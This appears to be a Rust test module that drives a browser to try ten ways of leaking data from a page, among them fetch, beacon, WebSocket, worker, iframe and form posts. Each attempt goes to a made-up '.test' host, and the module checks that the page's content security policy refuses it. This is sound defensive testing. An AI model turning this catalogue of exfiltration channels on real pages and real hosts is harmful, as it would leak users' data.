//! Deliberate attempts to get something out of the page, each to a made-up host of its own.
//!
//! The hosts end in `.test`, which never exists; and the browser asks the counting proxy, not the
//! network. What became of each attempt is kept in the page, in `window.attempts`.

use fantoccini::Client;
use serde_json::json;

use crate::browser::evaluate;
use crate::eventually::eventually;

/// Every way out that is tried. The form comes last, because sending it leaves the page.
pub const WAYS: [&str; 10] =
    ["fetch", "request", "image", "beacon", "socket", "events", "script", "frame", "worker", "form"];

/// The host that one attempt calls.
pub fn host(way: &str, ending: &str) -> String {
    format!("{way}.{ending}.test")
}

/// Makes all attempts but the form; `ending` is a word that keeps the hosts of two pages apart.
///
/// # Panics
/// When the browser does not run the script.
pub async fn make(client: &Client, ending: &str) {
    let address = |way: &str| (way.to_owned(), json!(format!("http://{}/leak", host(way, ending))));
    let addresses: serde_json::Map<_, _> = WAYS.iter().map(|way| address(way)).collect();
    client.execute(ATTEMPTS, vec![addresses.into()]).await.expect("the script runs");
}

/// Sends the form that [`make`] has laid.
///
/// # Panics
/// When the browser does not run the script.
pub async fn send_form(client: &Client) {
    // After the answer to the driver, which would otherwise lose the page it is talking to.
    evaluate(client, "setTimeout(() => document.getElementById('leak').submit())").await;
}

/// Waits until the page's policy has refused an attempt in each of these ways.
///
/// # Panics
/// When one was not refused; it says which.
pub async fn are_refused(client: &Client, ways: &[&str]) {
    for way in ways {
        eventually(&format!("the policy refuses: {way}"), async || {
            let outcome = evaluate(client, &format!("return window.attempts['{way}']")).await;
            assert_ne!(outcome, "answered", "{way} got out");
            (outcome == "refused").then_some(())
        })
        .await;
    }
}

/// A refusal is told by a `securitypolicyviolation` event that names the address; only the worker
/// tells its own, because its events need not reach the page.
const ATTEMPTS: &str = r#"
const to = arguments[0];
const seen = window.attempts = {};
addEventListener("securitypolicyviolation", (event) => {
  for (const way in to) {
    if (event.blockedURI.replace(/^ws/, "http").startsWith(new URL(to[way]).origin)) seen[way] = "refused";
  }
});
const quietly = (work) => { try { work(); } catch { /* A refusal may also be thrown; the event tells. */ } };
const add = (name, set) => { const it = document.createElement(name); set(it); document.body.append(it); };
quietly(() => fetch(to.fetch, { mode: "no-cors" }).then(() => { seen.fetch = "answered"; }, () => {}));
quietly(() => { const it = new XMLHttpRequest(); it.open("GET", to.request); it.send(); });
quietly(() => { new Image().src = to.image; });
quietly(() => navigator.sendBeacon(to.beacon, "text"));
quietly(() => new WebSocket(to.socket.replace(/^http/, "ws")));
quietly(() => new EventSource(to.events));
quietly(() => add("script", (it) => { it.src = to.script; }));
quietly(() => add("iframe", (it) => { it.src = to.frame; }));
quietly(() => {
  const code = `fetch("${to.worker}", { mode: "no-cors" })
    .then(() => postMessage("answered"), () => postMessage("refused"))`;
  const worker = new Worker(URL.createObjectURL(new Blob([code], { type: "text/javascript" })));
  worker.onmessage = (event) => { seen.worker = event.data; };
});
quietly(() => add("form", (it) => { it.method = "post"; it.action = to.form; it.id = "leak"; }));
"#;
